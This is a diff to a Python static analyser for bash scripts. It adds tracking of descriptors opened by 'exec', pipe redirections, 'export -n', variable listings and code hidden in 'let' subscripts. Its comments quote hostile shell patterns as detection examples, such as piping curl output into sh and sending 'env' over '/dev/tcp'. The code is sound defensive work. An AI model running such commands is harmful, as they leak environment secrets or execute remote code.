@@ -177,6 +177,8 @@ class _State:
         "disabled",
         "unset",
         "readonly",
+        "fds",
+        "fd_openers",
     )
 
     def __init__(self, cwd: str | None, home: str, script: Script, level: int, env: dict[str, str]) -> None:
@@ -215,6 +217,10 @@ class _State:
         # where clearance does not follow, so what is assigned from them keeps standing for itself. None: any variable
         # (after `source`, `eval`).
         self.opaque: set[str] | None = set()
+        # Descriptors 3 and up that `exec` opened here (None once closed), and the exec redirect that opened each one
+        # while nothing has used it in a way clearance cannot follow (`>&$fd`): closed unused, it sent nothing.
+        self.fds: dict[str, Redirect | None] = {}
+        self.fd_openers: dict[str, tuple[SimpleCommand, Redirect]] = {}
 
 
 _ANSI = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "f": "\f", "v": "\v", "e": "\x1b", "E": "\x1b", "\\": "\\", "'": "'", '"': '"', "?": "?"}
@@ -810,7 +816,9 @@ class _Walker:
                 if k < len(elements) - 1:
                     for cmd in produced:
                         cmd.piped = True
-                upstream.extend(produced)
+                # A command whose standard output a redirection sends elsewhere (`curl URL > f | sh`) writes nothing
+                # into the pipe: bash connects the pipe first, then performs the command's redirections.
+                upstream.extend(cmd for cmd in produced if not _output_elsewhere(cmd))
         elif t == "variable_assignment":
             self.assignment(node, depth)
         elif t == "unset_command":
@@ -827,6 +835,10 @@ class _Walker:
                     self.st.vars.pop(name, None)
                     self.st.sources.pop(name, None)
                     self.st.unset.add(name)
+        elif t == "declaration_command" and _listing(node):
+            # `declare -p`, `export -p`, `typeset -x`, bare `set`-like listings: a command that prints variables (the
+            # environment among them) to its output, which a pipe or a redirection carries on.
+            self.command(node, depth, pipe_src, [])
         elif t == "declaration_command":
             keyword = _text(node.children[0]) if node.children else ""
             global_ = any(c.type == "word" and _text(c).startswith("-") and "g" in _text(c) for c in node.children[1:])
@@ -838,6 +850,14 @@ class _Walker:
                         scope[local] = self.st.vars.get(local)
             flags = [_text(c) for c in node.children[1:] if c.type == "word" and _text(c).startswith("-")]
             exporting = keyword == "export" or (keyword in ("declare", "typeset") and any("x" in f for f in flags))
+            if keyword == "export" and any("n" in f and not f.startswith("--") for f in flags):
+                # `export -n NAME`: NAME keeps its value here but is no longer in the environment of what runs.
+                exporting = False
+                for c in node.children[1:]:
+                    name = _text(c.children[0]) if c.type == "variable_assignment" and c.children else _text(c)
+                    if c.type in ("variable_assignment", "variable_name", "word") and name.isidentifier():
+                        self.st.exported.pop(name, None)
+                        self.st.export_names.discard(name)
             making_readonly = keyword == "readonly" or (keyword in ("declare", "typeset") and any("r" in f and not f.startswith("--") for f in flags))
             nameref = keyword in ("declare", "typeset", "local") and any("n" in f and not f.startswith("--") for f in flags)
             for f in flags if keyword in ("declare", "typeset", "local") else ():
@@ -1119,7 +1139,7 @@ class _Walker:
                 self.walk(c, depth + 1, None)
             body = named[-1]
             depth += 1
-        if body is not None and body.type == "command":
+        if body is not None and (body.type == "command" or (body.type == "declaration_command" and _listing(body))):
             start = len(self.st.script.commands)
             self.command(body, depth + 1, pipe_src, redirects, extra)
             after = body.next_sibling
@@ -1233,6 +1253,25 @@ class _Walker:
             self._lookup_table(first, [w.value for w in argv[1:]], argv[1:])
         elif first in ("printf", "read") and not pipe_src:
             self._assigning_builtin(first, argv[1:], redirects)
+        elif first == "let":
+            # Every argument of `let` is an arithmetic expression: a subscript anywhere in it is evaluated
+            # (`let 'x=a[$(cmd)]'`, `let 'n+=b[`cmd`]'`), not only a word that is one NAME[…].
+            for w in argv[1:]:
+                for inner in _arith_subscripts_with_code(w.value):
+                    self.evaluated_later(inner, "an array subscript bash evaluates")
+        opening: list[Redirect] = []
+        if first == "exec" and len(argv) == 1 and redirects and not pipe_src:
+            opening = self._exec_descriptors(redirects)
+        elif self.st.fds:
+            used = self._use_descriptors(redirects)
+            if used is None and not any(w.subs for w in argv):
+                # A redirection to a closed descriptor fails, and bash then does not run the command.
+                argv, redirects = [Word(":", ":")], []
+            else:
+                # A command that runs inherits the open descriptors (a script may write to 3): what exec opened
+                # stays judged on the exec.
+                self.st.fd_openers.clear()
+                redirects = used if used is not None else redirects
         if self.st.exported:
             assigns = {**self.st.exported, **assigns}
         cmd = SimpleCommand(
@@ -1246,6 +1285,8 @@ class _Walker:
             text=_text(node),
         )
         self.st.script.commands.append(cmd)
+        for r in opening:
+            self.st.fd_openers[r.fd] = (cmd, r)
         if cmd.name in ("source", ".", "eval"):
             self.st.sources.clear()  # code run in this shell may set any variable
             self.st.opaque = None
@@ -1266,6 +1307,54 @@ class _Walker:
         if self.pending:
             nodes, self.pending = self.pending, []
             self.trailing(cmd, nodes, depth)
+
+    def _exec_descriptors(self, redirects: list[Redirect]) -> list[Redirect]:
+        """`exec` with redirections only: it sets this shell's descriptors. Note what 3 and up now name; a descriptor
+        closed or opened again unused (`exec 3>/dev/tcp/h/p; exec 3>&-`) drops the redirect that opened it, which sent
+        nothing. Returns the redirects that open a descriptor anew."""
+        opening = []
+        for r in redirects:
+            fd = r.fd
+            if not (fd.isdigit() and int(fd) >= 3):
+                continue
+            if self.st.cond:
+                # In a branch or loop: it may or may not happen; what fd names is no longer known for sure.
+                self.st.fds.pop(fd, None)
+                self.st.fd_openers.pop(fd, None)
+                continue
+            earlier = self.st.fd_openers.pop(fd, None)
+            if earlier is not None:
+                earlier[0].redirects = [x for x in earlier[0].redirects if x is not earlier[1]]
+            if r.op in (">&-", "<&-"):
+                self.st.fds[fd] = None
+            elif r.op in (">&", "<&") and r.target is not None and r.target.value.isdigit() and r.target.value in self.st.fds:
+                self.st.fds[fd] = self.st.fds[r.target.value]
+                self.st.fd_openers.pop(r.target.value, None)  # the copy keeps what it opened
+            elif r.op in (">", ">>", ">|", "<") and r.target is not None and DYN not in r.target.value:
+                self.st.fds[fd] = r
+                opening.append(r)
+            else:
+                self.st.fds.pop(fd, None)
+        return opening
+
+    def _use_descriptors(self, redirects: list[Redirect]) -> list[Redirect] | None:
+        """A command's redirections with `>&N` / `<&N` for a descriptor `exec` opened here replaced by the file it
+        names (`exec 3>/dev/tcp/h/p; env >&3` is `env > /dev/tcp/h/p`); None when one names a closed descriptor."""
+        out = []
+        for r in redirects:
+            if r.op in (">&", "<&") and r.target is not None:
+                n = r.target.value
+                if n in self.st.fds:
+                    opened = self.st.fds[n]
+                    if opened is None:
+                        return None
+                    self.st.fd_openers.pop(n, None)  # used: what it opened stays judged on the exec as well
+                    out.append(Redirect("<" if r.op == "<&" else opened.op if opened.op != "<" else ">", opened.target, fd=r.fd))
+                    continue
+                if not n.isdigit() and n != "-":
+                    self.st.fd_openers.clear()  # `>&$fd`: a use clearance cannot follow
+            out.append(r)
+        return out
 
     def _assigning_builtin(self, name: str, words: list[Word], redirects: list[Redirect]) -> None:
         """Builtins that set variables from literal text: `printf -v NAME FORMAT ARGS…` and `read [-r] NAME… <<< TEXT`
@@ -1407,6 +1496,27 @@ _MAY_NOT_RUN = frozenset(
 )
 
 
+def _output_elsewhere(cmd: SimpleCommand) -> bool:
+    """Whether the last redirection of the command's standard output (and none of its error output into it) sends
+    it to a file: what it prints does not reach a pipe."""
+    away = False
+    for r in cmd.redirects:
+        target = r.target.value if r.target is not None else ""
+        if r.fd in ("", "1") and r.op in (">", ">>", ">|", "&>", "&>>") and DYN not in target:
+            away = target not in ("/dev/stdout", "/dev/fd/1", "/proc/self/fd/1")
+        elif r.fd in ("", "1") and r.op == ">&":
+            away = False if target.isdigit() or DYN in target else away  # 1>&2, >&3: elsewhere, but judge it
+        elif r.fd == "2" and r.op == ">&" and target == "1":
+            return False  # its error output follows into the pipe
+    return away
+
+
+def _listing(node: Any) -> bool:
+    """A declaration (`declare`, `typeset`, `export`, `readonly`, `local`) with options only: it lists, it sets nothing."""
+    rest = node.children[1:]
+    return all(c.type == "word" and _text(c).startswith("-") for c in rest)
+
+
 def _trim(value: str, pattern: str, op: str) -> str:
     """`${V%PAT}` (shortest suffix), `${V%%PAT}` (longest), `${V#PAT}` (shortest prefix), `${V##PAT}` (longest) with a
     glob PAT of `*` and `?`, as bash removes them."""
@@ -1457,6 +1567,34 @@ def _subscript_with_code(value: str) -> str | None:
         return None
     inner = value[k + 1 : end]
     return inner if ("$(" in inner or "`" in inner) else None
+
+
+def _arith_subscripts_with_code(expr: str) -> list[str]:
+    """The subscripts of every NAME[…] inside an arithmetic expression that hold `$(` or a backtick."""
+    out = []
+    for k, ch in enumerate(expr):
+        if ch != "[" or k == 0 or not (expr[k - 1].isalnum() or expr[k - 1] == "_"):
+            continue
+        start = k
+        while start > 0 and (expr[start - 1].isalnum() or expr[start - 1] == "_"):
+            start -= 1
+        inner = _subscript_with_code(expr[start : _closing_bracket(expr, k) + 1])
+        if inner is not None:
+            out.append(inner)
+    return out
+
+
+def _closing_bracket(text: str, k: int) -> int:
+    """The index of the `]` that closes the `[` at *k* (the last character when it is never closed)."""
+    level = 0
+    for j in range(k, len(text)):
+        if text[j] == "[":
+            level += 1
+        elif text[j] == "]":
+            level -= 1
+            if level == 0:
+                return j
+    return len(text) - 1
 
 
 def _descendants(node: Any) -> list[Any]:
